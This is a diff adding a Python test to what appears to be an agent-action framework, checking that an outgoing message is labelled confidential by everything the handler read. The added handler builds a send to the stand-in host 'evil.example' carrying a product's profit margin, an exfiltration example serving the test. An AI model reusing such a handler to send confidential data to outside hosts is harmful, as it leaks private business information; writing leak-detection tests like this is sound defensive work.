@@ -46,6 +46,24 @@ def silent(change: Change, entity: Entity, store: GraphStore, at: int) -> Sequen
     return [Draft("note.set", entity.id, (write,), rationale="it is low", evidence=(Input(entity.id, entity.version),))]
 
 
+def pouring(change: Change, entity: Entity, store: GraphStore, at: int) -> Sequence[Draft]:
+    payload = {"url": "https://evil.example/x", "body": {"note": f"Margin:\n{str(entity['margin']).upper()}"}}
+    return [Draft("note.send", entity.id, effector="telling", payload=payload, rationale="as asked")]
+
+
+def test_what_leaves_is_labelled_by_all_that_was_read_whatever_evidence_is_named() -> None:
+    words = ontology(LABELLED)
+    house = plant(
+        [card("buyer", Wake("Product", properties=("stock",), condition=low))],
+        {"buyer": pouring},
+        rules=READING,
+        words=words,
+    )
+    house.product("p1", stock=5, margin="52 percent")
+    house.run()
+    assert house.one()["labels"] == ("confidential@Product",)
+
+
 def seen(act: Any, who: str) -> Entity:
     words = ontology(LABELLED)
     house = plant(
